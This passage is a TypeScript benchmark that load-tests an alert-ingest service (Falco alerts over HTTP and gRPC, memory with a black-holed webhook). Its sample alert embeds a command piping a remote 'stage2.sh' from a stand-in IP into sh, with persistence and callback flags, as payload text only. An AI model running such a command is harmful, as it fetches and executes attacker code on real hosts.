/**
 * Sidekick ingest benchmark (issue #6). Every process has one job, so they do not share an event loop:
 * the server under test runs in a child process, the load generator in another, and this process only
 * orchestrates and samples the server's RSS from /proc. Measures, in one run:
 *   - alerts/s accepted over HTTP `POST /` (one 1–2 KB Falco alert per request, keep-alive, autocannon)
 *     next to the baseline: a bare fastify route that only parses the same JSON; once with no output
 *     configured (ingest alone) and once with one webhook output black-holed (every alert stays owed),
 *     the three measured in turn, in ROUNDS rounds after one warm-up round that is not counted (the
 *     sidekick's young generation and JIT settle in the first tens of thousands of requests), each
 *     ratio taken within a round and the median reported (a shared machine's CPU speed drifts);
 *   - with that output, the same through `POST /batch` (50 alerts a request) and over gRPC `Publish` (1 and 50 a batch);
 *   - p50/p99 accept latency of `POST /` at half the peak rate;
 *   - the sidekick's RSS while one webhook output is black-holed (accepts connections, never answers)
 *     and 5,000 alerts/s are offered for 60 s: the backlog must stay on disk. Three runs (RSS_RUNS):
 *     the sidekick as `saker sidekick` starts it with the default config (sidekick/run.ts), so with the
 *     web UI and its alert store as a second output (webui.enabled is true by default), fed as Saker's
 *     detector sends (`POST /batch`, RSS_BATCH a request) and as Falco's http_output sends (`POST /`, one
 *     a request); then Falco's requests with the web UI off, the webhook the only output. Each records
 *     the rate it reached and how busy the sidekick was: one alert per request costs an HTTP request
 *     each, and with the store as well that does not reach 5,000/s on a small machine.
 *     The throughput phases keep the bare sidekick
 *     (createSidekick with only the routes named above): they compare the ingest path to a bare route,
 *     and "no output" there means ingest alone; what the store costs is measured by bench/store.ts.
 * The machine's load is recorded with the results: on a shared machine only the ratios of one run compare.
 * The server's CPU time per request (from /proc, around each HTTP phase) is recorded too: when other
 * work competes for the CPUs, what a request costs the server is steadier than the rate it reaches.
 * Prints the figures and writes bench/results/sidekick.json. Not a test: nothing passes or fails.
 *
 *   npm run bench:sidekick
 *   SAKER_BENCH_SECONDS=10 (each throughput phase)  SAKER_BENCH_ROUNDS=5 (of the single-alert HTTP phases)  SAKER_BENCH_RSS_SECONDS=60 (the RSS phase)
 *   SAKER_BENCH_SIDEKICK_NODE_FLAGS='--max-old-space-size=64' (node flags of the sidekick under test, e.g. to
 *   see what heap limits do to its RSS; recorded with the results; none by default)
 *   SAKER_BENCH_ONLY=http (or http,grpc): only the baseline and the named throughput phases, printed and
 *   not written to bench/results/ (for profiling ingest, e.g. with --cpu-prof in the node flags)
 *   SAKER_BENCH_ONLY=rss: only the RSS phase, printed and not written. The RSS phase runs the sidekick
 *   with the node flags docker-compose.yml deploys it with, unless SAKER_BENCH_SIDEKICK_NODE_FLAGS is set.
 *   SAKER_BENCH_RSS_SHAPES=batch (or single): only the RSS runs of that shape.
 *   SAKER_BENCH_RSS_WEBUI=false (or true): only the RSS runs without (with) the web UI and its store (webui.enabled),
 *   to see the store's share; recorded with the results as webuiStore.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { cpus, loadavg, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import type { ClientDuplexStream, GrpcObject, ServiceClientConstructor } from '@grpc/grpc-js';
import { setTimeout as sleep } from 'node:timers/promises';
import { startBlackhole } from '../test/support/peers/blackhole.js';

const SELF = fileURLToPath(import.meta.url);
/** The repository: the nearest folder above this file (or its bundle in .scratch/) holding package.json. */
function repositoryRoot(from: string): string {
  for (let dir = dirname(from); dir !== dirname(dir); dir = dirname(dir)) if (existsSync(join(dir, 'package.json'))) return dir;
  throw new Error(`no package.json above ${from}`);
}
const ROOT = repositoryRoot(SELF);
const SECONDS = Number(process.env.SAKER_BENCH_SECONDS ?? 10);
const RSS_SECONDS = Number(process.env.SAKER_BENCH_RSS_SECONDS ?? 60);
const RSS_RATE = 5000;
const BATCH = 50;
/** Alerts per request in the RSS phase's `/batch` runs: as in the throughput phase (the detector sends up to 500). */
const RSS_BATCH = BATCH;
/** Interleaved rounds of the single-alert HTTP phases (bare, no output, black-holed): medians are reported. */
const ROUNDS = Number(process.env.SAKER_BENCH_ROUNDS ?? 5);
/** Length of the warm-up round's phases. */
const WARM_UP_SECONDS = 5;
const CONNECTIONS = 32;
const SIDEKICK_NODE_FLAGS = (process.env.SAKER_BENCH_SIDEKICK_NODE_FLAGS ?? '').split(' ').filter((flag) => flag !== '');
/** Throughput phases to run (`http`, `grpc`); all phases, the RSS one included, when unset. */
const ONLY = process.env.SAKER_BENCH_ONLY === undefined ? undefined : new Set(process.env.SAKER_BENCH_ONLY.split(','));
const runs = (phase: 'http' | 'grpc') => ONLY === undefined || ONLY.has(phase);
/** `SAKER_BENCH_ONLY=rss`: the RSS phase alone, printed with its breakdown, not recorded. */
const RSS_ONLY = ONLY?.has('rss') === true;
/**
 * The RSS phase's runs, each recorded under its key: as a default install runs (web UI on) with the
 * detector's requests and with Falco's, and with Falco's requests and the webhook as the only output.
 * `SAKER_BENCH_RSS_SHAPES` and `SAKER_BENCH_RSS_WEBUI` select some of them (SAKER_BENCH_ONLY=rss).
 */
const RSS_RUNS = [
  { key: 'rssBlackholed', shape: 'batch', webui: true },
  { key: 'rssBlackholedSingle', shape: 'single', webui: true },
  { key: 'rssBlackholedSingleWebuiOff', shape: 'single', webui: false },
] as const satisfies readonly { key: string; shape: RssShape; webui: boolean }[];
const RSS_SELECTED = RSS_RUNS.filter(
  (run) =>
    (process.env.SAKER_BENCH_RSS_SHAPES ?? 'batch,single').split(',').includes(run.shape) &&
    (process.env.SAKER_BENCH_RSS_WEBUI === undefined || String(run.webui) === process.env.SAKER_BENCH_RSS_WEBUI),
);

/** A Falco alert of about 1.5 KB, shaped like a container-escape rule's JSON output. */
function falcoAlert(): Record<string, unknown> {
  const cmdline = 'bash -c "curl -fsSL http://203.0.113.7:8080/stage2.sh | sh -s -- --persist --hide --callback 203.0.113.7:4444"';
  return {
    hostname: 'worker-node-7.prod.example.internal',
    output: `10:00:00.123456789: Critical Shell spawned in a container with an attached terminal and outbound fetch (user=root user_loginuid=-1 k8s.ns=payments k8s.pod=checkout-7d9f8b6c5-x2x4q container=3f2a1b9c8d7e shell=bash parent=runc cmdline=${cmdline} terminal=34816 exe_flags=EXE_WRITABLE container_id=3f2a1b9c8d7e image=registry.example.com/payments/checkout:1.42.7)`,
    priority: 'Critical',
    rule: 'Terminal shell in container',
    source: 'syscall',
    tags: ['container', 'maturity_stable', 'mitre_execution', 'shell', 'T1059'],
    time: '2026-11-22T10:00:00.123456789Z',
    output_fields: {
      'container.id': '3f2a1b9c8d7e',
      'container.image.repository': 'registry.example.com/payments/checkout',
      'container.image.tag': '1.42.7',
      'container.name': 'checkout',
      'evt.time': 0, // replaced by Falco's nanosecond timestamp, beyond 2^53, in the JSON text
      'evt.type': 'execve',
      'k8s.ns.name': 'payments',
      'k8s.pod.name': 'checkout-7d9f8b6c5-x2x4q',
      'proc.cmdline': cmdline,
      'proc.exepath': '/usr/bin/bash',
      'proc.name': 'bash',
      'proc.pid': 48213,
      'proc.pname': 'runc',
      'proc.tty': 34816,
      'user.loginuid': -1,
      'user.name': 'root',
      'user.uid': 0,
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Child roles: `serve-bare`, `serve-sidekick`, `load-http`, `load-grpc`. Each prints one JSON line.
// ---------------------------------------------------------------------------------------------

interface ServeSpec {
  blackhole?: string;
  /** `serve-sidekick-as-shipped` only: false turns the web UI and its store off (webui.enabled). */
  webui?: boolean;
}

async function serveBare(): Promise<void> {
  const { default: Fastify } = await import('fastify');
  const app = Fastify({ bodyLimit: 1_048_576 });
  // The baseline does what any JSON endpoint must: receive and parse the body, then answer.
  app.post('/', async () => ({ ok: true }));
  await app.listen({ host: '127.0.0.1', port: 0 });
  console.log(JSON.stringify({ http: (app.server.address() as AddressInfo).port }));
  process.once('SIGTERM', () => void app.close().then(() => process.exit(0)));
}

async function serveSidekick(spec: ServeSpec): Promise<void> {
  // As `saker sidekick` does: only the configured output type's code is loaded (outputs/registry.js).
  const [{ loadConfig }, { createLogger }, { createOutput, loadOutputTypes }, { createSidekick }] = await Promise.all([
    import('../common/config/index.js'),
    import('../common/logger.js'),
    import('../outputs/registry.js'),
    import('../sidekick/index.js'),
  ]);
  if (spec.blackhole) await loadOutputTypes(['webhook']);
  const dataDir = mkdtempSync(join(tmpdir(), 'saker-bench-sidekick-'));
  const config = loadConfig({ env: { LISTENADDRESS: '127.0.0.1', DATADIR: dataDir, GRPC_ENABLED: 'true' } });
  config.listenport = 0 as number;
  config.grpc.listenport = 0 as number;
  const routes = spec.blackhole ? [{ name: 'blackhole', output: createOutput('webhook', { address: spec.blackhole }, 'blackhole') }] : [];
  const sidekick = createSidekick({ config, routes, log: createLogger({ level: 'silent', pretty: false }), env: {} });
  await sidekick.listen();
  console.log(JSON.stringify({ http: (sidekick.app.server.address() as AddressInfo).port, grpc: sidekick.grpc?.port }));
  reportUntilSigterm(() => sidekick.outbox.pendingCount, () => sidekick.close(0), dataDir);
}

/** Prints the backlog and heap every second for the parent; on SIGTERM closes, removes `dataDir` and exits. */
function reportUntilSigterm(pendingCount: () => number, close: () => Promise<unknown>, dataDir: string): void {
  const pending = setInterval(() => {
    const { heapUsed, external } = process.memoryUsage();
    console.log(JSON.stringify({ pending: pendingCount(), heapMb: heapUsed / 1048576, externalMb: external / 1048576 }));
  }, 1000);
  process.once('SIGTERM', () => {
    clearInterval(pending);
    void close().then(() => {
      rmSync(dataDir, { recursive: true, force: true });
      process.exit(0);
    });
  });
}

/**
 * The sidekick as `saker sidekick` starts it with the default config (sidekick/run.ts): its only
 * external output a webhook to `spec.blackhole`, and the web UI with its alert store, which the
 * default config enables (webui.enabled), as a second output fed through the outbox. Ports are
 * chosen by the OS so runs do not collide. For the RSS phase: a default install keeps the store.
 */
async function serveSidekickAsShipped(spec: ServeSpec): Promise<void> {
  const [{ loadConfig }, { createLogger }, { startSidekick }] = await Promise.all([
    import('../common/config/index.js'),
    import('../common/logger.js'),
    import('../sidekick/run.js'),
  ]);
  const dataDir = mkdtempSync(join(tmpdir(), 'saker-bench-sidekick-'));
  const config = loadConfig({ env: { LISTENADDRESS: '127.0.0.1', DATADIR: dataDir, WEBUI_ENABLED: String(spec.webui ?? true), ...(spec.blackhole ? { WEBHOOK_ADDRESS: spec.blackhole } : {}) } });
  config.listenport = 0 as number;
  config.grpc.listenport = 0 as number;
  config.webui.listenport = 0 as number;
  const running = await startSidekick(config, createLogger({ level: 'silent', pretty: false }));
  const { sidekick } = running;
  console.log(JSON.stringify({ http: (sidekick.app.server.address() as AddressInfo).port, grpc: sidekick.grpc?.port, webui: running.uiUrl }));
  reportUntilSigterm(() => sidekick.outbox.pendingCount, () => running.close(), dataDir);
}

interface HttpLoadSpec {
  url: string;
  body: string;
  seconds: number;
  connections: number;
  /** Requests per second over all connections; unlimited when absent. */
  rate?: number;
}

async function loadHttp(spec: HttpLoadSpec): Promise<void> {
  const { default: autocannon } = await import('autocannon');
  const run = (seconds: number) =>
    autocannon({
      url: spec.url,
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: spec.body,
      connections: spec.connections,
      duration: seconds,
      ...(spec.rate ? { overallRate: spec.rate } : {}),
    });
  const warmUp = await run(2); // warm-up: JIT, connection setup, SQLite page cache
  const result = await run(spec.seconds);
  const ok = result.requests.total - result.non2xx;
  console.log(
    JSON.stringify({
      requestsPerSecond: ok / spec.seconds,
      // Both phases, so the server's CPU time (sampled around the whole load) can be divided by them.
      requestsWithWarmUp: warmUp.requests.total + result.requests.total,
      total: result.requests.total,
      non2xx: result.non2xx,
      errors: result.errors,
      timeouts: result.timeouts,
      latencyMs: { p50: result.latency.p50, p99: result.latency.p99, max: result.latency.max },
    }),
  );
}

/**
 * Most requests a paced load keeps sent and unanswered; past it a request that falls due is counted as
 * not sent instead of queued in this process without bound.
 */
const PACED_MAX_IN_FLIGHT = 10_000;
/** How often a paced load sends what has fallen due since its last look. */
const PACED_TICK_MS = 5;

/**
 * A load offered at a steady rate (`spec.rate` requests a second, required), the way alerts arrive
 * from Falco or the detector. autocannon's rate limit sends each connection's quota for a second as
 * fast as it can at the start of that second and then waits: at 5,000 alerts/s the sidekick would
 * take bursts of 5,000 alerts, and its memory and latency would be those of the bursts. Here
 * requests fall due evenly over the second (looked at every PACED_TICK_MS) and are sent when due,
 * whether or not earlier ones were answered (open loop, so a slow server shows as latency and a
 * lower rate reached, not as fewer requests offered), over `spec.connections` keep-alive
 * connections (undici). Latency is from when a request fell due to its answer.
 */
async function loadHttpPaced(spec: HttpLoadSpec & { rate: number }): Promise<void> {
  const { Pool } = await import('undici');
  const url = new URL(spec.url);
  const pool = new Pool(url.origin, { connections: spec.connections, pipelining: 1 });
  const run = async (seconds: number) => {
    const latencies: number[] = [];
    let total = 0;
    let non2xx = 0;
    let errors = 0;
    let inFlight = 0;
    let notSent = 0;
    const send = (dueAt: number) => {
      inFlight++;
      total++;
      pool
        .request({ path: url.pathname, method: 'POST', headers: { 'content-type': 'application/json' }, body: spec.body })
        .then(async (response) => {
          await response.body.dump();
          if (response.statusCode >= 200 && response.statusCode < 300) latencies.push(performance.now() - dueAt);
          else non2xx++;
        })
        .catch(() => errors++)
        .finally(() => inFlight--);
    };
    const start = performance.now();
    const intervalMs = 1000 / spec.rate;
    let offered = 0;
    for (let now = start; now - start < seconds * 1000; now = performance.now()) {
      for (; start + offered * intervalMs <= now; offered++) {
        if (inFlight < PACED_MAX_IN_FLIGHT) send(start + offered * intervalMs);
        else notSent++;
      }
      await sleep(PACED_TICK_MS);
    }
    while (inFlight > 0) await sleep(PACED_TICK_MS);
    latencies.sort((a, b) => a - b);
    const at = (q: number) => round(latencies[Math.min(latencies.length - 1, Math.floor(q * latencies.length))] ?? Number.NaN, 1);
    return { total, non2xx, errors, notSent, ok: latencies.length, latencyMs: { p50: at(0.5), p99: at(0.99), max: at(1) } };
  };
  const warmUp = await run(2); // as loadHttp
  const result = await run(spec.seconds);
  await pool.close();
  console.log(
    JSON.stringify({
      requestsPerSecond: result.ok / spec.seconds,
      requestsWithWarmUp: warmUp.total + result.total,
      total: result.total,
      non2xx: result.non2xx,
      errors: result.errors,
      notSent: result.notSent,
      latencyMs: result.latencyMs,
    }),
  );
}

interface GrpcLoadSpec {
  address: string;
  alert: string;
  batch: number;
  seconds: number;
  streams: number;
  /** Batches in flight per stream before waiting for acks. */
  window: number;
}

async function loadGrpc(spec: GrpcLoadSpec): Promise<void> {
  const grpc = await import('@grpc/grpc-js');
  const { loadSync } = await import('@grpc/proto-loader');
  const definition = loadSync(join(ROOT, 'proto', 'saker', 'v1', 'ingest.proto'), { keepCase: true, longs: Number, defaults: true });
  const saker = grpc.loadPackageDefinition(definition).saker as GrpcObject;
  const Ingest = (saker.v1 as GrpcObject).Ingest as ServiceClientConstructor;
  const client = new Ingest(spec.address, grpc.credentials.createInsecure());
  const alerts = Array.from({ length: spec.batch }, () => spec.alert);
  const phase = async (seconds: number) => {
    let accepted = 0;
    let rejected = 0;
    const deadline = Date.now() + seconds * 1000;
    await Promise.all(
      Array.from(
        { length: spec.streams },
        () =>
          new Promise<void>((resolve, reject) => {
            const stream = (client as unknown as { Publish(): ClientDuplexStream<object, { uuids: string[]; rejection: unknown }> }).Publish();
            let inFlight = 0;
            let id = 0;
            const fill = () => {
              while (inFlight < spec.window && Date.now() < deadline) {
                inFlight++;
                stream.write({ batch_id: ++id, alerts });
              }
              if (inFlight === 0) stream.end();
            };
            stream.on('data', (ack) => {
              inFlight--;
              if (ack.rejection) rejected++;
              else accepted += ack.uuids.length;
              fill();
            });
            stream.on('end', resolve);
            stream.on('error', reject);
            fill();
          }),
      ),
    );
    return { accepted, rejected };
  };
  await phase(2);
  const { accepted, rejected } = await phase(spec.seconds);
  client.close();
  console.log(JSON.stringify({ alertsPerSecond: accepted / spec.seconds, accepted, rejectedBatches: rejected }));
}

// ---------------------------------------------------------------------------------------------
// Orchestration.
// ---------------------------------------------------------------------------------------------

interface Child {
  process: ChildProcess;
  lines: AsyncIterator<string>;
  next(): Promise<Record<string, unknown>>;
}

/**
 * Where the children's code is: this file bundled to plain JavaScript (dependencies left as imports),
 * because under tsx every process carries a TypeScript loader thread of ~80 MB that is not the sidekick's.
 * Split into chunks, so a dynamic import (an output type's code and SDK) stays lazy as in `saker sidekick`.
 */
// The RSS phase alone bundles elsewhere, so it can run while a throughput run uses (and removes) its bundle.
const BUNDLE_DIR = join(ROOT, '.scratch', RSS_ONLY ? 'bench-sidekick-rss' : 'bench-sidekick');
const BUNDLE = join(BUNDLE_DIR, 'main.mjs');

async function bundleChildren(): Promise<void> {
  const { build } = await import('esbuild');
  rmSync(BUNDLE_DIR, { recursive: true, force: true });
  await build({
    entryPoints: { main: SELF },
    bundle: true,
    splitting: true,
    platform: 'node',
    format: 'esm',
    target: 'node20',
    packages: 'external',
    outdir: BUNDLE_DIR,
    outExtension: { '.js': '.mjs' },
    logLevel: 'warning',
  });
}

function child(role: string, spec: object = {}, flags: readonly string[] = role === 'serve-sidekick' ? SIDEKICK_NODE_FLAGS : []): Child {
  const proc = spawn(process.execPath, [...flags, BUNDLE, role, JSON.stringify(spec)], { cwd: ROOT, stdio: ['ignore', 'pipe', 'inherit'] });
  const lines = createInterface({ input: proc.stdout as NodeJS.ReadableStream })[Symbol.asyncIterator]();
  return {
    process: proc,
    lines,
    async next() {
      const { value, done } = await lines.next();
      if (done) throw new Error(`${role} exited (${proc.exitCode ?? proc.signalCode}) before reporting`);
      return JSON.parse(value as string) as Record<string, unknown>;
    },
  };
}

async function stop(server: Child): Promise<void> {
  server.process.kill('SIGTERM');
  if (server.process.exitCode === null) await new Promise((resolve) => server.process.once('exit', resolve));
}

/** Resident memory of a process in MB from /proc (Linux): anonymous (heap, malloc) and file-backed (the node binary, libraries). */
function residentMb(pid: number): { rss: number; anon: number; file: number } {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = (key: string) => Number(new RegExp(`${key}:\\s+(\\d+) kB`).exec(status)?.[1] ?? Number.NaN) / 1024;
  return { rss: kb('VmRSS'), anon: kb('RssAnon'), file: kb('RssFile') };
}

/** CPU time (user + system) a process has used so far, in ms, from /proc (Linux). */
function cpuMs(pid: number): number {
  // Fields after the command name (which may hold spaces): utime and stime are the 12th and 13th.
  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ') ?? [];
  return ((Number(fields[11]) + Number(fields[12])) * 1000) / CLOCK_TICKS;
}
const CLOCK_TICKS = 100; // USER_HZ on Linux

/**
 * One load run against `url`: as fast as it answers (autocannon), or `rate` requests a second offered
 * steadily (loadHttpPaced). With `serverPid`, also the server's CPU time per request: on a
 * shared machine the rate depends on what else runs, the CPU a request costs the server much less.
 */
async function measureHttp(url: string, body: string, rate?: number, seconds = SECONDS, serverPid?: number): Promise<Record<string, unknown>> {
  const cpuBefore = serverPid === undefined ? 0 : cpuMs(serverPid);
  // A rate is offered steadily (loadHttpPaced); as many requests as the server answers by autocannon.
  const load = child(rate === undefined ? 'load-http' : 'load-http-paced', { url, body, seconds, connections: CONNECTIONS, rate } satisfies HttpLoadSpec);
  const result = await load.next();
  await new Promise((resolve) => (load.process.exitCode === null ? load.process.once('exit', resolve) : resolve(undefined)));
  if (serverPid !== undefined) result.serverCpuMsPerRequest = (cpuMs(serverPid) - cpuBefore) / (result.requestsWithWarmUp as number);
  return result;
}

async function measureGrpc(address: string, alert: string, batch: number): Promise<Record<string, unknown>> {
  const load = child('load-grpc', { address, alert, batch, seconds: SECONDS, streams: 4, window: batch === 1 ? 32 : 4 } satisfies GrpcLoadSpec);
  const result = await load.next();
  await new Promise((resolve) => (load.process.exitCode === null ? load.process.once('exit', resolve) : resolve(undefined)));
  return result;
}

const round = (n: number, digits = 0) => Number(n.toFixed(digits));
const median = (values: readonly number[]) => {
  const sorted = [...values].sort((a, b) => a - b);
  const mid = Math.floor(sorted.length / 2);
  return sorted.length % 2 === 1 ? (sorted[mid] as number) : ((sorted[mid - 1] as number) + (sorted[mid] as number)) / 2;
};

/** One round of the single-alert HTTP phases, measured one after the other. */
interface Round {
  bare: Record<string, unknown>;
  noOutput: Record<string, unknown>;
  single: Record<string, unknown>;
}
const rateOf = (result: Record<string, unknown>) => result.requestsPerSecond as number;
/** Rate of `result` over that of `bare`, measured in the same round. */
const ratio = (result: Record<string, unknown>, bare: Record<string, unknown>) => round(rateOf(result) / rateOf(bare), 3);
/** Server CPU a request of `bare` over that of `result`: above 1 means `result` costs less. */
const cpuRatio = (result: Record<string, unknown>, bare: Record<string, unknown>) =>
  round((bare.serverCpuMsPerRequest as number) / (result.serverCpuMsPerRequest as number), 2);

async function stopAll(server: Child, hole: { close(): void }): Promise<void> {
  await stop(server);
  hole.close();
  rmSync(BUNDLE_DIR, { recursive: true, force: true });
}

/** The gRPC phases alone (`SAKER_BENCH_ONLY`): printed, not recorded; then everything is stopped. */
async function grpcOnly(server: Child, address: string, alert: string, bareRate: number, hole: { close(): void }): Promise<void> {
  for (const size of [1, BATCH]) {
    const { alertsPerSecond } = (await measureGrpc(address, alert, size)) as { alertsPerSecond: number };
    console.log(`sidekick  gRPC Publish (${size} a batch)  ${round(alertsPerSecond)} alerts/s  = ${round(alertsPerSecond / bareRate, 2)}x baseline`);
  }
  await stopAll(server, hole);
}

/**
 * Node flags the RSS phase runs the sidekick with: the NODE_OPTIONS docker-compose.yml gives the
 * sidekick service (how Saker is deployed, see README "Memory"), unless SAKER_BENCH_SIDEKICK_NODE_FLAGS
 * is set (then those, as in every other phase; set it empty to measure without flags).
 */
async function rssNodeFlags(): Promise<string[]> {
  if (process.env.SAKER_BENCH_SIDEKICK_NODE_FLAGS !== undefined) return SIDEKICK_NODE_FLAGS;
  const { parse } = await import('yaml');
  const compose = parse(readFileSync(join(ROOT, 'docker-compose.yml'), 'utf8')) as { services?: { sidekick?: { environment?: Record<string, unknown> } } };
  return String(compose.services?.sidekick?.environment?.NODE_OPTIONS ?? '')
    .split(' ')
    .filter((flag) => flag !== '');
}

/** How the RSS phase sends its alerts: `batch` as Saker's detector (`POST /batch`), `single` as Falco (`POST /`). */
type RssShape = 'batch' | 'single';

/**
 * RSS with the only output black-holed: every accepted alert stays pending, on disk, while alerts
 * are offered at RSS_RATE for RSS_SECONDS, in requests of the given shape. Samples the sidekick's resident memory every 500 ms (anonymous
 * and file-backed at the peak, to tell the heap from the mapped node binary) and its JS heap each second.
 */
async function measureRss(holeUrl: string, alert: string, shape: RssShape, webui: boolean): Promise<Record<string, unknown>> {
  const perRequest = shape === 'batch' ? RSS_BATCH : 1;
  const flags = await rssNodeFlags();
  const rssServer = child('serve-sidekick-as-shipped', { blackhole: holeUrl, webui } satisfies ServeSpec, flags);
  const rssPorts = await rssServer.next();
  const pid = rssServer.process.pid as number;
  const start = residentMb(pid);
  let peak = start;
  let pending = 0;
  let maxHeapMb = 0;
  let maxExternalMb = 0;
  const sample = () => {
    const now = residentMb(pid);
    if (now.rss > peak.rss) peak = now;
  };
  const sampler = setInterval(sample, 500);
  const pendingReader = (async () => {
    for (;;) {
      const line = await rssServer.next().catch(() => undefined);
      if (!line) return;
      if (typeof line.pending === 'number') pending = line.pending;
      if (typeof line.heapMb === 'number') maxHeapMb = Math.max(maxHeapMb, line.heapMb);
      if (typeof line.externalMb === 'number') maxExternalMb = Math.max(maxExternalMb, line.externalMb);
    }
  })();
  const body = shape === 'batch' ? `[${new Array<string>(RSS_BATCH).fill(alert).join(',')}]` : alert;
  const path = shape === 'batch' ? 'batch' : '';
  const cpuBefore = cpuMs(pid);
  const wallBefore = performance.now();
  const rssLoad = await measureHttp(`http://127.0.0.1:${rssPorts.http}/${path}`, body, RSS_RATE / perRequest, RSS_SECONDS);
  // How busy the sidekick was (all its threads, in cores): below 1, the rate reached is what the load generator sent.
  const busyCores = (cpuMs(pid) - cpuBefore) / (performance.now() - wallBefore);
  clearInterval(sampler);
  sample();
  const end = residentMb(pid);
  // What reached the web UI's store, so a store that stopped taking alerts does not pass for a lean one.
  const counted = (await (webui ? fetch(`${String(rssPorts.webui)}/api/v1/events/count`) : Promise.reject(new Error('no web UI')))
    .then((response) => response.json())
    .catch(() => undefined)) as { statistics?: { all?: number } } | undefined;
  const stored = counted?.statistics?.all ?? Number.NaN;
  await sleep(1100); // one more pending report
  await stop(rssServer);
  await pendingReader;
  const achieved = (rssLoad.requestsPerSecond as number) * perRequest;
  const sent = shape === 'batch' ? `POST /batch of ${RSS_BATCH}` : 'POST / one alert each';
  console.log(
    `sidekick  RSS, output black-holed, web UI store ${webui ? 'on' : 'off'}, ${sent}, ${round(achieved)} alerts/s for ${RSS_SECONDS} s (node flags: ${flags.join(' ') || 'none'}): start ${round(start.rss)} MB, max ${round(peak.rss)} MB (target <= 150; at the max ${round(peak.anon)} MB anonymous, ${round(peak.file)} MB file-backed; JS heap max ${round(maxHeapMb)} MB), end ${round(end.rss)} MB, ${pending} deliveries pending on disk, ${stored} alerts in the web UI store; sidekick busy ${round(busyCores, 2)} cores, p99 ${(rssLoad.latencyMs as { p99: number }).p99} ms`,
  );
  return {
    request: shape === 'batch' ? `POST /batch, ${RSS_BATCH} alerts a request` : 'POST /, one alert a request',
    seconds: RSS_SECONDS,
    targetRate: RSS_RATE,
    achievedRate: round(achieved),
    sidekickBusyCores: round(busyCores, 2),
    latencyMs: rssLoad.latencyMs,
    nodeFlags: flags,
    webuiStore: webui,
    startMb: round(start.rss, 1),
    maxMb: round(peak.rss, 1),
    maxAnonMb: round(peak.anon, 1),
    maxFileMb: round(peak.file, 1),
    endMb: round(end.rss, 1),
    targetMaxMb: 150,
    maxJsHeapMb: round(maxHeapMb, 1),
    maxExternalMb: round(maxExternalMb, 1),
    pendingOnDisk: pending,
    webuiStoredAlerts: stored,
    non2xx: rssLoad.non2xx,
  };
}

async function main(): Promise<void> {
  const withNanos = (text: string) => text.replaceAll('"evt.time":0', '"evt.time":1795341600123456789');
  const alert = withNanos(JSON.stringify(falcoAlert()));
  const batch = withNanos(JSON.stringify(Array.from({ length: BATCH }, () => falcoAlert())));
  const loadAverageAtStart = loadavg().map((l) => round(l, 1));
  await bundleChildren();
  const hole = await startBlackhole();
  if (RSS_ONLY) {
    for (const run of RSS_SELECTED) await measureRss(hole.url, alert, run.shape, run.webui);
    hole.close();
    rmSync(BUNDLE_DIR, { recursive: true, force: true });
    return;
  }
  console.log(`alert: ${alert.length} bytes; ${SECONDS} s per throughput phase, ${CONNECTIONS} keep-alive connections; ${cpus().length} CPUs`);

  // The three single-alert measurements run in interleaved rounds against servers kept running: on a
  // shared virtual machine the speed of the CPUs drifts by tens of percent over a minute, and a ratio
  // of two runs made next to each other is far steadier than one of runs made a minute apart.
  const bare = child('serve-bare');
  const bareUrl = `http://127.0.0.1:${(await bare.next()).http}/`;
  // Ingest alone: no output configured, so accepting costs validation, enrichment and the outbox write.
  const bareIngest = child('serve-sidekick', {} satisfies ServeSpec);
  const ingestUrl = `http://127.0.0.1:${(await bareIngest.next()).http}/`;
  const server = child('serve-sidekick', { blackhole: hole.url } satisfies ServeSpec);
  const ports = await server.next();
  const url = `http://127.0.0.1:${ports.http}/`;
  const grpcAddress = `127.0.0.1:${ports.grpc}`;
  // Not counted: V8 sizes the young generation and optimises the hot paths over the first requests.
  for (const warmUpUrl of [bareUrl, ingestUrl, url]) await measureHttp(warmUpUrl, alert, undefined, WARM_UP_SECONDS);
  const rounds: Round[] = [];
  // A gRPC-only run needs the baseline, not the HTTP phases' medians: one round.
  const roundCount = runs('http') ? ROUNDS : 1;
  for (let n = 1; n <= roundCount; n++) {
    const measured: Round = {
      bare: await measureHttp(bareUrl, alert, undefined, SECONDS, bare.process.pid),
      noOutput: await measureHttp(ingestUrl, alert, undefined, SECONDS, bareIngest.process.pid),
      single: await measureHttp(url, alert, undefined, SECONDS, server.process.pid),
    };
    rounds.push(measured);
    const { bare: b, noOutput, single } = measured;
    console.log(
      `round ${n}: bare ${round(rateOf(b))}/s (${round(b.serverCpuMsPerRequest as number, 3)} ms CPU a request), no output ${ratio(noOutput, b)}x, 1 output black-holed ${ratio(single, b)}x (by CPU a request ${cpuRatio(single, b)}x)`,
    );
  }
  await stop(bare);
  await stop(bareIngest);
  const bareRate = median(rounds.map((r) => rateOf(r.bare)));
  const bareCpu = median(rounds.map((r) => r.bare.serverCpuMsPerRequest as number));
  console.log(`baseline  bare fastify POST / (parse only)     ${round(bareRate)} alerts/s  (server CPU ${round(bareCpu, 3)} ms a request; medians of ${roundCount} rounds)`);
  const summary = (phase: 'noOutput' | 'single') => ({
    alertsPerSecond: round(median(rounds.map((r) => rateOf(r[phase])))),
    ratioToBaseline: round(median(rounds.map((r) => ratio(r[phase], r.bare))), 3),
    ratiosByRound: rounds.map((r) => ratio(r[phase], r.bare)),
    serverCpuMsPerRequest: round(median(rounds.map((r) => r[phase].serverCpuMsPerRequest as number)), 4),
    cpuRatioToBaseline: round(median(rounds.map((r) => cpuRatio(r[phase], r.bare))), 2),
    non2xx: rounds.reduce((n, r) => n + (r[phase].non2xx as number), 0),
  });
  const ingestOnly = summary('noOutput');
  const single = summary('single');
  const singleRate = single.alertsPerSecond;
  console.log(
    `sidekick  HTTP POST /, no output configured     ${ingestOnly.alertsPerSecond} alerts/s  = ${ingestOnly.ratioToBaseline}x baseline (median of rounds; by CPU a request ${ingestOnly.cpuRatioToBaseline}x)`,
  );
  if (!runs('http')) return grpcOnly(server, grpcAddress, alert, bareRate, hole);
  console.log(
